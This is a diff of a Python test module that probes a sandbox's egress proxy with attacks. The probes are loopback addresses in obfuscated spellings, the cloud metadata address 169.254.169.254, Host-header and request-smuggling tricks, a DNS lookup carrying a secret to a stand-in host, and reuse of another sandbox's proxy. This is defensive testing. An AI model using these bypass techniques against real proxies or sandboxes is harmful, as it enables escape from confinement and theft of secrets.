@@ -7,62 +7,29 @@ import os
 import socket
 import stat
 
-from callgate.host.sandbox.attacks import Arena, Spot, attack
-
-_PROXY = "HTTP_PROXY"
-
-
-def _channel(port: int) -> socket.socket:
-    return socket.create_connection(("127.0.0.1", port), timeout=5)
+from callgate.host.sandbox.attacks import ArenaFacts, Spot, proxy_port, request, tunnel
+from tests.host.sandbox.attacks.table import attack
 
 
-def _answer(channel: socket.socket) -> str:
-    """The first line of the answer; an error for one that says no."""
-    line = channel.recv(1000).decode(errors="replace").partition("\r\n")[0]
-    if line.split(" ")[1:2] != ["200"]:
-        raise PermissionError(line or "the connection was closed")
-    return line
-
-
-def _tunnel(arena: Arena, at: Spot, host: str, port: int, proxy: int = 0) -> None:
-    """Sends the attack's name to the listener at ``port``, through a tunnel to this host."""
-    address = os.environ.get(_PROXY, "")
-    if not proxy and not address:
-        with _channel(port) as direct:
-            direct.sendall(at.name.encode())
+def _ask(arena: ArenaFacts, at: Spot, text: str) -> None:
+    """Send a request to the proxy, or without one the attack's name to the listener."""
+    if proxy_port() is not None:
+        request(text)
         return
-    with _channel(proxy or int(address.rpartition(":")[2])) as channel:
-        channel.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
-        _answer(channel)
+    with socket.create_connection(("127.0.0.1", arena["port"]), timeout=5) as channel:
         channel.sendall(at.name.encode())
 
 
-def _ask(arena: Arena, at: Spot, text: str) -> None:
-    """Sends a request to the proxy, or without one the attack's name to the listener."""
-    address = os.environ.get(_PROXY, "")
-    with _channel(int(address.rpartition(":")[2]) if address else arena["port"]) as channel:
-        channel.sendall(text.replace("\n", "\r\n").encode() if address else at.name.encode())
-        if address:
-            _answer(channel)
-            while channel.recv(1000):
-                pass
+@attack
+def tunnel_to_address(arena: ArenaFacts, at: Spot) -> None:
+    tunnel(at, "127.0.0.1", arena["port"])
 
 
 @attack
-def tunnel_to_host_not_allowed(arena: Arena, at: Spot) -> None:
-    _tunnel(arena, at, "localhost", arena["port"])
-
-
-@attack
-def tunnel_to_address(arena: Arena, at: Spot) -> None:
-    _tunnel(arena, at, "127.0.0.1", arena["port"])
-
-
-@attack
-def tunnel_to_address_in_other_spelling(arena: Arena, at: Spot) -> None:
+def tunnel_to_address_in_other_spelling(arena: ArenaFacts, at: Spot) -> None:
     for host in ("2130706433", "0x7f.1", "0177.0.0.1", "127.1", "[::ffff:127.0.0.1]", "localhost.", "LOCALHOST%00"):
         try:
-            _tunnel(arena, at, host, arena["port"])
+            tunnel(at, host, arena["port"])
         except PermissionError as error:
             refused = error
         else:
@@ -71,21 +38,15 @@ def tunnel_to_address_in_other_spelling(arena: Arena, at: Spot) -> None:
 
 
 @attack
-def tunnel_to_name_of_own_machine(arena: Arena, at: Spot) -> None:
-    """The name is allowed, and leads to this machine."""
-    _tunnel(arena, at, arena["rebound"], arena["port"])
-
-
-@attack
-def tunnel_to_cloud_metadata(arena: Arena, at: Spot) -> bool:
+def tunnel_to_cloud_metadata(arena: ArenaFacts, at: Spot) -> bool:
     """The name is allowed, and leads to the address that serves keys to machines in a cloud. Nothing is sent there: an
     answer of the proxy other than a refusal says that it would connect."""
-    address = os.environ.get(_PROXY, "")
-    if not address:
+    port = proxy_port()
+    if port is None:
         with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as channel:
             channel.connect(("169.254.169.254", 80))
         return True
-    with _channel(int(address.rpartition(":")[2])) as channel:
+    with socket.create_connection(("127.0.0.1", port), timeout=5) as channel:
         channel.sendall(f"CONNECT {arena['metadata']}:443 HTTP/1.1\r\n\r\n".encode())
         line = channel.recv(1000).decode(errors="replace").partition("\r\n")[0]
     if " 403 " in line:
@@ -94,26 +55,26 @@ def tunnel_to_cloud_metadata(arena: Arena, at: Spot) -> bool:
 
 
 @attack
-def fetch_from_host_not_allowed(arena: Arena, at: Spot) -> None:
+def fetch_from_host_not_allowed(arena: ArenaFacts, at: Spot) -> None:
     host = f"localhost:{arena['port']}"
     _ask(arena, at, f"GET http://{host}/{at.name} HTTP/1.1\nHost: {host}\n\n")
 
 
 @attack
-def fetch_with_host_of_another(arena: Arena, at: Spot) -> None:
+def fetch_with_host_of_another(arena: ArenaFacts, at: Spot) -> None:
     """The address is allowed, its Host header is not."""
     allowed, other = f"localhost:{arena['allowed']}", f"localhost:{arena['port']}"
     _ask(arena, at, f"GET http://{allowed}/{at.name} HTTP/1.1\nHost: {other}\n\n")
 
 
 @attack
-def fetch_with_two_hosts(arena: Arena, at: Spot) -> None:
+def fetch_with_two_hosts(arena: ArenaFacts, at: Spot) -> None:
     allowed, other = f"localhost:{arena['allowed']}", f"localhost:{arena['port']}"
     _ask(arena, at, f"GET http://{allowed}/{at.name} HTTP/1.1\nHost: {allowed}\nHost: {other}\n\n")
 
 
 @attack
-def fetch_behind_allowed_request(arena: Arena, at: Spot) -> None:
+def fetch_behind_allowed_request(arena: ArenaFacts, at: Spot) -> None:
     """A second request on the connection of an allowed one."""
     allowed, other = f"localhost:{arena['allowed']}", f"localhost:{arena['port']}"
     first = f"GET http://{allowed}/ HTTP/1.1\nHost: {allowed}\nConnection: keep-alive\n\n"
@@ -121,7 +82,7 @@ def fetch_behind_allowed_request(arena: Arena, at: Spot) -> None:
 
 
 @attack
-def fetch_behind_allowed_body(arena: Arena, at: Spot) -> None:
+def fetch_behind_allowed_body(arena: ArenaFacts, at: Spot) -> None:
     """A body with two lengths, of which a server may believe the shorter one."""
     allowed = f"localhost:{arena['allowed']}"
     second = f"GET /{at.name} HTTP/1.1\nHost: {allowed}\n\n"
@@ -130,17 +91,17 @@ def fetch_behind_allowed_body(arena: Arena, at: Spot) -> None:
 
 
 @attack
-def carry_secret_in_looked_up_name(arena: Arena, at: Spot) -> None:
+def carry_secret_in_looked_up_name(arena: ArenaFacts, at: Spot) -> None:
     """Names that are looked up reach the one who serves them, whatever becomes of the connection."""
-    if not os.environ.get(_PROXY):
+    if proxy_port() is None:
         with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as channel:
             channel.sendto(at.name.encode(), ("127.0.0.1", arena["udp"]))
         return
-    _tunnel(arena, at, f"{at.name}.tunnel.example", 443)
+    tunnel(at, f"{at.name}.tunnel.example", 443)
 
 
 @attack
-def write_to_line_of_proxy(arena: Arena, at: Spot) -> None:
+def write_to_line_of_proxy(arena: ArenaFacts, at: Spot) -> None:
     """Looks for the proxy's line, or any other socket, among the descriptors of all processes that can be seen."""
     found = [int(name) for name in os.listdir("/proc/self/fd") if int(name) > 2]
     found = [number for number in found if _is_socket(f"/proc/self/fd/{number}")]
@@ -166,6 +127,6 @@ def _is_socket(path: str) -> bool:
 
 
 @attack
-def use_proxy_of_another_sandbox(arena: Arena, at: Spot) -> None:
+def use_proxy_of_another_sandbox(arena: ArenaFacts, at: Spot) -> None:
     """The other proxy lets everything through, to whoever reaches it."""
-    _tunnel(arena, at, "localhost", arena["port"], proxy=arena["other_proxy"])
+    tunnel(at, "localhost", arena["port"], proxy=arena["other_proxy"])
